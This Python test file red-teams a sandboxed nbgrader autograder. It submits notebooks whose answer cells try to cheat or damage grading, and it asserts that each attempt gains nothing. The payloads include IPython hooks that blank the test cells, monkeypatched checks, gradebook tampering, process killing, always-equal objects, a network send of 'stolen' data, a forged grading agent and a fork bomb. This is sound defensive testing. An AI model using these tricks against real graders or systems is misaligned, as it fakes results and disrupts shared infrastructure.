"""Red team: submissions that try to get points without answers, or to hurt the grader (issue #13).

Each attacker is a student whose notebook is handed in to a real nbgrader course (the repo's
``nbgrader_config.py`` and ``solutions/``) and graded with the ``nbgrader`` command line, in real
sandboxed kernels, next to an honest student graded after all of them. Each test asserts, for its
class of attack, that no points were gained, that the attack shows where an instructor looks, and
that nothing outside the attacker's own grades changed: the honest student is graded in full, the
gradebook holds what it should, the feedback holds no line of a hidden test.

Two autograde runs: one for all attacks with nbgrader's usual limits, one for the attacks that
run forever, with short limits (``--Execute.timeout``) so that the suite stays quick.
"""
from __future__ import annotations

import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

nbformat = pytest.importorskip("nbformat")
pytest.importorskip("nbgrader")
from nbgrader.api import Gradebook, MissingEntry  # noqa: E402
from test_nbgrader import (ASSIGNMENTS, SOLUTION_REGION, Course, grade_id, leaked, make_course,  # noqa: E402
                           nbgrader, needs_sandbox, read, secret_lines, submit)

pytestmark = pytest.mark.slow

SHORT = 10   # seconds per cell for the attacks that never end
LISTENER = socket.socket()   # a server on the grader's loopback that no sandbox should reach
LISTENER.bind(("127.0.0.1", 0))
PORT = LISTENER.getsockname()[1]

HOOK = "get_ipython().input_transformers_cleanup.append(lambda lines: [])  # every later cell becomes empty\n"


def solution(course: Path, assignment: str, cell: str) -> str:
    """The solution's code for the answer cell ``cell`` (as a student who got it right writes it)."""
    for c in read(course / "solutions" / assignment / f"{assignment}.ipynb").cells:
        if grade_id(c) == cell:
            return SOLUTION_REGION.sub("", c.source + "\n")
    raise KeyError(cell)


def attacks(root: Path) -> dict[str, dict[str, dict[str, str]]]:
    """student -> assignment -> {answer cell: new source}; every student's other cells are the solutions'."""
    right = lambda assignment, cell: solution(root, assignment, cell)  # noqa: E731
    course = str(root)
    return {
        # IPython hooks: the untouched student version with one line in its first answer cell
        "a_hook": {a: {"q1_answer": HOOK} for a in ASSIGNMENTS},
        # hooks installed after right answers: the later questions are held back for review
        "a_hook_late": {"01_tensors": {"q4_answer": right("01_tensors", "q4_answer") + HOOK}},
        # TF2: the check that runs in the kernel (KERNEL_CHECK) replaced, with a wrong answer
        "a_patcher_tf2": {"08_tf1_to_tf2": {"q3_answer": (
            "import minitf.selfcheck.core as core\n"
            "core.check = lambda qid, namespace=None: print(f'✔ {qid} passed.')\n"
            "def slope_at(x0):\n    return 0.0\n")}},
        # the tests' tools replaced, with a wrong answer the visible check lets through
        "a_patcher": {"05_regression": {"q1_answer": (
            "import numpy as np\nimport minitf as tf\n"
            "np.allclose = lambda *args, **kwargs: True\nnp.isclose = lambda *args, **kwargs: np.bool_(True)\n"
            "tf.Session.run = lambda self, fetches, feed_dict=None, **kw: 0.0\n"
            "check = lambda qid: print(f'✔ {qid} passed.')\n"
            "def mse(hypothesis, Y):\n    return tf.reduce_sum(tf.square(hypothesis - Y)) / 3\n")}},
        # other students' grades: the gradebook, other submissions, the course folder
        "a_gradebook": {"01_tensors": {"q1_answer": right("01_tensors", "q1_answer") + (
            "import sqlite3, glob, os\n"
            f"for path in [{course + '/gradebook.db'!r}, '../../gradebook.db', '../gradebook.db', 'gradebook.db']:\n"
            "    try:\n"
            "        db = sqlite3.connect(f'file:{path}?mode=rw', uri=True)\n"
            "        db.execute('UPDATE grade SET auto_score = 0'); db.commit()\n"
            "        print('GRADEBOOK CHANGED', path)\n"
            "    except Exception as error:\n"
            "        print('gradebook', path, type(error).__name__)\n"
            f"for pattern in [{course + '/submitted/*/*/*.ipynb'!r}, {course + '/**'!r}, '/home/**/gradebook.db',"
            " '/tmp/**/gradebook.db']:\n"
            "    print(pattern, glob.glob(pattern, recursive=True)[:5])\n"
            f"try:\n    open({course + '/submitted/z_honest/01_tensors/01_tensors.ipynb'!r}, 'w').write('{{}}')\n"
            "    print('SUBMISSION CHANGED')\nexcept Exception as error:\n    print('submission', type(error).__name__)\n")}},
        # the grader's processes: the parent, the process group, everything signalable
        "a_killer": {"02_graphs": {"q1_answer": right("02_graphs", "q1_answer") + (
            "import os, signal\n"
            "for pid in (os.getppid(), 1, -1):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception as error:\n"
            "        print('kill', pid, type(error).__name__)\n"
            "os.killpg(0, signal.SIGKILL)\n")}},
        # the hidden tests: input history, the source, the files, the interpreter's memory
        "a_reader": {"03_sessions": {"q1_answer": right("03_sessions", "q1_answer") + (
            "# ### BEGIN HIDDEN TESTS (a marker in the student's own cell)\n"
            "import gc, glob, inspect\n"
            "print('### BEGIN HIDDEN TESTS')\n"
            "print(_ih, In, Out)\n"
            "try:\n    print(inspect.getsource(hidden_test))\nexcept Exception as error:\n    print(type(error).__name__)\n"
            f"for pattern in [{course + '/**/*.ipynb'!r}, '/home/**/*.ipynb', '/tmp/**/*.ipynb', '/run/**/*.ipynb']:\n"
            "    for path in glob.glob(pattern, recursive=True):\n"
            "        print(open(path).read())\n"
            "print([o for o in gc.get_objects() if isinstance(o, str) and 'hidden' in o.lower()][:50])\n")}},
        # answers that are not data: objects equal to everything
        "a_equal": {"01_tensors": {"q2_answer": (
            "class Anything(list):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = None\n    def __len__(self):\n        return 4\n"
            "ranks = Anything()\nshapes = Anything()\n"), "q4_answer": (
            "class Anything:\n    def __eq__(self, other):\n        return True\n"
            "    def __getitem__(self, i):\n        return self\n    def __len__(self):\n        return 5\n"
            "dtypes = Anything()\n")}},
        # the network: the grader's loopback and the internet
        "a_network": {"01_tensors": {"q1_answer": right("01_tensors", "q1_answer") + (
            "import socket, urllib.request\n"
            f"for address in [('127.0.0.1', {PORT}), ('1.1.1.1', 80)]:\n"
            "    try:\n        socket.create_connection(address, timeout=3).sendall(b'stolen')\n"
            "        print('CONNECTED', address)\n"
            "    except OSError as error:\n        print('no connection', address, type(error).__name__)\n")}},
        # the grading agent replaced by a forger that answers every request with the same data
        "a_forger": {"02_graphs": {"q1_answer": (
            "import sys, json\n"
            "agent = sys.modules['minitf.grading.agent']\n"
            "names = ['Const:0', 'Const_1:0', 'add:0', 'MyConst:0', 'MyAdd:0', 'mul:0']\n"
            "agent.serve = lambda request: get_ipython().display_pub.publish(data={\n"
            "    'application/vnd.minitf.grading+json': json.dumps({'value': {'t': 'list', 'v': names}})}, metadata={})\n")}},
        # output meant to break the feedback: markers, a flood, broken display data
        "a_output": {"02_graphs": {"q1_answer": right("02_graphs", "q1_answer") + (
            "from IPython.display import display\n"
            "display({'image/png': 'not base64 at all', 'text/html': '<b>bold</b>'}, raw=True)\n"
            "print('### BEGIN HIDDEN TESTS')\nprint('### END HIDDEN TESTS')\nprint('### BEGIN HIDDEN TESTS')\n"
            "for _ in range(3000):\n    print('flood ' * 200)\n")}},
        # crashes that do not end the kernel, and one that exhausts memory
        "a_crash": {"04_variables": {"q3_answer": "import sys\nsys.exit(3)\n",
                                     "q4_answer": "huge = bytearray(1 << 40)\n"}},
    }


ENDLESS = {   # graded in a second run, with a cell timeout of SHORT seconds
    "b_loop": {"03_sessions": {"q2_answer": (
        "import time\nwhile True:\n    try:\n        time.sleep(.5)\n    except:\n        pass\n")}},
    "b_loop_called": {"04_variables": {"q2_answer": (
        "import time\ndef count_to(n):\n    while True:\n        try:\n            time.sleep(.5)\n"
        "        except:\n            pass\n")}},
    "b_fork": {"03_sessions": {"q3_answer": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n")}},
}
RUNS = (  # (attackers, honest student graded after them, the notebooks it hands in, autograde options)
    ("a", "z_honest", ("01_tensors", "02_graphs", "03_sessions", "04_variables", "08_tf1_to_tf2"), []),
    ("b", "y_honest", ("03_sessions", "04_variables"), [f"--Execute.timeout={SHORT}",
                                                        f"--SandboxedExecute.test_timeout={3 * SHORT}"]),
)


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Course:
    needs_sandbox()
    root = make_course(tmp_path_factory.mktemp("redteam"))
    received: list[bytes] = []
    LISTENER.listen()
    threading.Thread(target=lambda: received.append(LISTENER.accept()[0].recv(100)), daemon=True).start()
    handed_in = {**attacks(root), **ENDLESS}
    for prefix, honest, notebooks, options in RUNS:
        for student in sorted(s for s in handed_in if s.startswith(prefix + "_")):
            for assignment, replace in handed_in[student].items():
                submit(root, student, assignment, replace, answered=student not in ("a_hook", "a_forger"))
        for assignment in notebooks:
            submit(root, honest, assignment)
        log = nbgrader(root, "autograde", "*", f"--student=[{prefix}{honest[0]}]_*", *options)
        (root / f"autograde-{prefix}.log").write_text(log)
    nbgrader(root, "generate_feedback", "*")
    course = Course(root)
    course.received = received
    return course


def total(course: Course, student: str, assignment: str) -> float:
    return sum(score for score, _ in course.scores(assignment, student).values())


def review(course: Course, student: str, assignment: str) -> dict[str, bool]:
    """Which test cells of a student's notebook formgrader lists as needing manual grading."""
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as gb:
        cells = gb.find_notebook(assignment, assignment).grade_cells
        return {c.name: gb.find_grade(c.name, assignment, assignment, student).needs_manual_grade for c in cells
                if c.cell_type == "code"}   # the explain answers always wait for a person


def outputs(course: Course, student: str, assignment: str, cell: str) -> str:
    """The text of a cell's outputs in the autograded notebook."""
    notebook = read(course.root / "autograded" / student / assignment / f"{assignment}.ipynb")
    found = next(c for c in notebook.cells if grade_id(c) == cell)
    return "\n".join(o.get("text", "") or f"{o.get('ename')}: {o.get('evalue')}" for o in found.outputs)


def expect_scores(course: Course, student: str, assignment: str, lost: set[str]) -> None:
    """Full marks for every question of the notebook but those in ``lost``, which score 0."""
    scores = course.scores(assignment, student)
    assert scores == {q: (0.0 if q in lost else maximum, maximum) for q, (_, maximum) in scores.items()}, scores


def test_the_honest_students_graded_after_every_attack_get_full_marks(course):
    for _, honest, notebooks, _ in RUNS:
        for assignment in notebooks:
            expect_scores(course, honest, assignment, lost=set())
            assert not any(review(course, honest, assignment).values())


def test_a_hook_on_ipythons_input_gains_nothing_and_is_flagged(course):
    """The attack that scored 49/49: every later cell, tests included, ran as empty code."""
    for assignment in ASSIGNMENTS:
        assert total(course, "a_hook", assignment) == 0, assignment
        assert all(review(course, "a_hook", assignment).values()), assignment
    assert "IPython's input transformers" in outputs(course, "a_hook", "01_tensors", "q1")


def test_a_hook_after_right_answers_holds_back_only_the_questions_after_it(course):
    expect_scores(course, "a_hook_late", "01_tensors", lost={"q4", "q5", "q6"})
    assert review(course, "a_hook_late", "01_tensors") == {"q1": False, "q2": False, "q3": False, "q4": True,
                                                           "q5": True, "q6": True}
    assert "ReviewNeeded" in outputs(course, "a_hook_late", "01_tensors", "q4")


def test_patching_numpy_minitf_or_check_does_not_pass_a_wrong_answer(course):
    assert total(course, "a_patcher", "05_regression") == 0
    assert all(review(course, "a_patcher", "05_regression").values())
    shown = outputs(course, "a_patcher", "05_regression", "q1")
    assert "numpy.allclose was replaced" in shown and "minitf.session.Session.run was replaced" in shown


def test_a_check_patched_in_the_kernel_passes_nothing_the_judge_fails(course):
    """A TF2 question's check runs in the student's kernel (KERNEL_CHECK): a gate only, so a
    replaced check that says "passed" earns nothing; the hidden test in the judge fails the answer."""
    scores = course.scores("08_tf1_to_tf2", "a_patcher_tf2")
    assert scores["q3"][0] == 0 and scores["q1"] == (scores["q1"][1], scores["q1"][1]), scores
    assert review(course, "a_patcher_tf2", "08_tf1_to_tf2")["q3"]
    assert "slope_at should return a Python float" in outputs(course, "a_patcher_tf2", "08_tf1_to_tf2", "q3") \
        or "wrong slope" in outputs(course, "a_patcher_tf2", "08_tf1_to_tf2", "q3")


def test_the_gradebook_other_submissions_and_the_course_folder_are_out_of_reach(course):
    shown = outputs(course, "a_gradebook", "01_tensors", "q1_answer")
    assert "GRADEBOOK CHANGED" not in shown and "SUBMISSION CHANGED" not in shown
    assert "gradebook " in shown and "[]" in shown   # every attempt failed; every listing was empty
    expect_scores(course, "a_gradebook", "01_tensors", lost=set())
    assert read(course.root / "submitted" / "z_honest" / "01_tensors" / "01_tensors.ipynb").cells


def test_killing_processes_costs_only_that_question_and_grading_goes_on(course):
    expect_scores(course, "a_killer", "02_graphs", lost={"q1"})
    assert "killed its kernel" in outputs(course, "a_killer", "02_graphs", "q1")


def test_the_hidden_tests_cannot_be_read_and_the_feedback_holds_none_of_them(course):
    shown = outputs(course, "a_reader", "03_sessions", "q1_answer")
    assert "NameError" in shown and "def hidden_test" not in shown and "hidden_test(student)" not in shown
    assert all(review(course, "a_reader", "03_sessions").values())   # gc, inspect, _ih: held for review
    for student, assignments in list(attacks(course.root).items()) + list(ENDLESS.items()):
        for assignment in assignments:
            assert secret_lines(course, student, assignment)
            assert not leaked(course, student, assignment), (student, assignment)


def test_answers_that_equal_everything_are_not_data_and_fail(course):
    expect_scores(course, "a_equal", "01_tensors", lost={"q2", "q4"})


def test_the_sandbox_has_no_network(course):
    shown = outputs(course, "a_network", "01_tensors", "q1_answer")
    assert "CONNECTED" not in shown and shown.count("no connection") == 2
    assert course.received == []
    expect_scores(course, "a_network", "01_tensors", lost=set())


def test_a_forged_grading_agent_gains_nothing(course):
    assert total(course, "a_forger", "02_graphs") == 0
    assert all(review(course, "a_forger", "02_graphs").values())
    assert "uses sys.modules" in outputs(course, "a_forger", "02_graphs", "q1")


def test_what_a_student_prints_cannot_break_the_feedback(course):
    expect_scores(course, "a_output", "02_graphs", lost=set())
    feedback = course.feedback("a_output", "02_graphs").read_text()
    assert "output was dropped" in feedback and "flood" in feedback and "<b>bold</b>" in feedback
    assert len(feedback) < 3_000_000   # 3.6 MB printed


def test_sys_exit_and_a_memory_blow_up_cost_only_their_questions(course):
    expect_scores(course, "a_crash", "04_variables", lost={"q3", "q4"})
    assert "MemoryError" in outputs(course, "a_crash", "04_variables", "q4_answer")


def test_an_endless_loop_that_swallows_interrupts_costs_only_its_question(course):
    expect_scores(course, "b_loop", "03_sessions", lost={"q2"})
    assert f"ran past its time limit of {SHORT} s" in outputs(course, "b_loop", "03_sessions", "q2_answer")
    assert "CellStopped" in outputs(course, "b_loop", "03_sessions", "q2")


def test_an_endless_loop_in_a_function_the_test_calls_costs_only_its_question(course):
    expect_scores(course, "b_loop_called", "04_variables", lost={"q2"})
    assert "stopped" in outputs(course, "b_loop_called", "04_variables", "q2")


def test_a_fork_storm_is_bounded_and_costs_only_its_question(course):
    expect_scores(course, "b_fork", "03_sessions", lost={"q3"})


def hand_in_edited(course: Course, student: str, edit) -> None:
    """Hand in the solved 01_tensors after ``edit(cells)`` changed its cells in place."""
    path = submit(course.root, student, "01_tensors")
    notebook = read(path)
    edit(notebook.cells)
    nbformat.write(notebook, path)


def test_a_deleted_or_rewritten_test_cell_is_put_back_from_the_gradebook(course):
    def edit(cells):
        cells.remove(next(c for c in cells if grade_id(c) == "q1"))
        rewritten = next(c for c in cells if grade_id(c) == "q2")
        rewritten.metadata.nbgrader["points"] = 100
        rewritten.source = "print('all good')"

    hand_in_edited(course, "c_metadata", edit)
    nbgrader(course.root, "autograde", "01_tensors", "--student=c_metadata")
    expect_scores(course, "c_metadata", "01_tensors", lost=set())
    assert course.scores("01_tensors", "c_metadata")["q2"] == (1.0, 1.0)


def test_a_forged_test_cell_gets_the_notebook_refused_and_nothing_else(course):
    def edit(cells):
        forged = nbformat.v4.new_code_cell("print('pass')")
        forged.metadata["nbgrader"] = {"grade": True, "grade_id": "q9", "locked": True, "points": 100,
                                       "schema_version": 3, "solution": False, "task": False}
        cells.append(forged)

    hand_in_edited(course, "c_forged", edit)
    done = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", "01_tensors", "--student=c_forged"],
                          cwd=course.root, capture_output=True, text=True, timeout=600)
    assert done.returncode != 0 and "Cell 'q9' does not exist in the database" in done.stderr
    assert total(course, "c_forged", "01_tensors") == 0
    expect_scores(course, "z_honest", "01_tensors", lost=set())


def test_without_bubblewrap_autograde_refuses_to_run_student_code(course):
    """Missing sandbox tool: a clear error, never grading without isolation."""
    submit(course.root, "late", "01_tensors")
    done = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", "01_tensors", "--student=late",
                           "--Sandbox.bwrap=/nonexistent/bwrap"], cwd=course.root, capture_output=True, text=True,
                          timeout=600)
    assert done.returncode != 0 and "apt-get install bubblewrap" in done.stderr
    assert not list((course.root / "autograded" / "late").rglob("*.ipynb"))
    with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as gb:
        try:
            graded = [g.auto_score for g in gb.find_submission_notebook("01_tensors", "01_tensors", "late").grades]
        except MissingEntry:
            graded = []
    assert all(score is None for score in graded)
